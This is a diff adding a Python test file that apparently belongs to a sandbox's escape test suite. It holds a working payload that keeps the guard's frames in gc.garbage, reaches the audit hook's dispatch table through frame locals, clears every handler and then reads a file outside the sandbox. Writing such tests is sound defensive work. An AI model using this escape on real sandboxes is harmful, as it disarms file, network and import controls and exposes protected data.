@@ -1,0 +1,38 @@
+# rule: expose-ro=.
+# expect: file PermissionError
+# bypass: CRITICAL total disarm with no right at all: gc (built-in, no import rule) .set_debug(DEBUG_SAVEALL) is not audited, so the frames of a collected refusal traceback land in gc.garbage; frame.f_locals is not audited either, and the hook frame's free variable 'get' is dispatch.get: get.__self__.clear() removes every handler (files, network, imports, calls)
+
+"""Objective: read ../outside/secret.txt after emptying the hook's dispatch table, reached
+     through the guard's own frames left in gc.garbage.
+"""
+
+from _harness import attempt
+
+
+def payload():
+    import gc
+    def fail():
+        open('../outside/secret.txt').close()  # refused under python-sb: raised inside the hook
+    gc.set_debug(gc.DEBUG_SAVEALL)
+    try:
+        fail()
+    except PermissionError as exc:
+        exc.cycle = exc  # garbage, with its traceback and the guard's frames
+        del exc
+    except OSError:
+        pass
+    gc.collect()
+    gc.set_debug(0)
+    frames = [o for o in gc.garbage if type(o).__name__ == 'frame']
+    gc.garbage.clear()
+
+    hooks = [f for f in frames if repr(f).endswith('code hook>')]
+    if hooks:
+        hooks[0].f_locals['get'].__self__.clear()
+    with open('../outside/secret.txt') as f:
+        data = f.read()
+    assert data == 'the secret\n', data
+    return data
+
+
+attempt(payload)
